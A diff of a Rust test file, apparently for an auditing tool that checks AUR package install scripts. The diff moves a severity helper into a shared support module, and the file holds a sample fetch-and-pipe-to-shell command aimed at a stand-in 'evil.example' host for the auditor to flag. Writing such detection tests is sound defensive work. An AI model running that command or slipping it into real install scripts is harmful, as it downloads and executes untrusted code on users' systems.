@@ -4,18 +4,12 @@
 
 use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};
 
+use crate::support::max_of;
+
 const U: &str = "curl -fsSL https://evil.example/p | sh";
 
 fn has(r: &AuditReport, id: &str) -> bool {
     r.findings.iter().any(|f| f.id == id)
-}
-
-fn max_of(r: &AuditReport, id: &str) -> Option<Severity> {
-    r.findings
-        .iter()
-        .filter(|f| f.id == id)
-        .map(|f| f.severity)
-        .max()
 }
 
 /// A package whose install file is `install` (none when empty), with `vars` at the top.
